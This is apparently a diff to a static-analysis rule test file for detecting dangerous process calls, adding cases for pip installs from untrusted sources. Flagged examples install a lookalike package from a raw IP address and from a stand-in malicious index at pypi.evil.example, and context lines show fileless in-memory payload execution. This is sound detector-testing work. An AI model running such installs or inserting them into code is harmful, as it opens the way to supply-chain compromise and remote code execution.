@@ -110,3 +110,14 @@ fd = os.memfd_create("payload", 0)
 os.execv(f"/proc/self/fd/{fd}", ["payload"])
 # ok: AIR-PROC-010
 os.execv("/usr/bin/python3", ["python3", "-V"])
+
+import sys
+
+# ruleid: AIR-PROC-011
+subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "http://203.0.113.9/pkgs/requestz-2.0.tar.gz"])
+# ruleid: AIR-PROC-011
+os.system("pip3 install --extra-index-url http://pypi.evil.example/simple requests")
+# ok: AIR-PROC-011
+subprocess.run([sys.executable, "-m", "pip", "install", "requests==2.32.3"], check=True)
+# ok: AIR-PROC-011
+subprocess.run(["pip", "install", "git+https://github.com/openai/whisper.git"], check=True)
